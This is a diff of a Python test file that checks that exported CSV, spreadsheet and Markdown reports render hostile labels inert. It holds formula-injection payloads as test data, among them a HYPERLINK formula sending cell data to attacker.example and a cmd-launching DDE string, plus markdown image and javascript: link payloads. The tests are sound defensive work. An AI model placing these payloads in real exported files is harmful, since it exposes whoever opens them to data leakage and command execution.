@@ -96,7 +96,8 @@ def test_csv_cells_are_inert(hostile_out) -> None:
     names = {r[0] for r in rows[1:]}
     assert '\'=HYPERLINK("http://attacker.example/?leak="&A1,"click")' in names
     assert "'+cmd|' /C calc'!A0" in names and "'@SUM(1)" in names and "'-2+3" in names
-    assert "'\t=1+1" in names and "'- item" in names
+    # validate normalises labels (tab/CR trimmed), so "\t=1+1" and "\r=1+1" arrive as "=1+1"
+    assert "'=1+1" in names and "'- item" in names
     # numbers stay numbers: n as an integer, means as decimals
     table = pd.read_csv(hostile_out / "communities.csv")
     assert str(table["n"].dtype) in ("int64", "float64")  # float only where n is suppressed
@@ -113,7 +114,7 @@ def test_csv_through_evaluate(hostile_ev, tmp_path) -> None:
             for cell in row:
                 _assert_inert_cell(cell)
         names = {r[0] for r in rows[1:]}
-        assert "'\r=1+1" in names and "'\t=1+1" in names and "'-2+3" in names
+        assert "'=1+1" in names and "'-2+3" in names
 
 
 def test_xlsx_cells_are_inert_and_numbers_numeric(hostile_out) -> None:
@@ -152,8 +153,11 @@ def _assert_markdown_inert(md: str) -> None:
         assert "lines" not in h and "heading" not in h, h
     markdown = pytest.importorskip("markdown")
     rendered = markdown.markdown(md, extensions=["tables"])
-    for tag in ("<img", "<a ", "<code", "<script", "<ul>\n<li>item"):
+    for tag in ("<img", "<code", "<script", "<ul>\n<li>item"):
         assert tag not in rendered, tag
+    # the only links are the report's own table of contents (in-page anchors)
+    links = re.findall(r"<a [^>]*>", rendered)
+    assert all(re.fullmatch(r'<a href="#[a-z0-9-]+">', a) for a in links), links
     text = html.unescape(re.sub(r"<[^>]+>", "", rendered))
     # the reader sees the names as they are (on one line)
     for name in ("![t](http://attacker.example/p.png)", "[x](javascript:alert(1))", "A|B"):
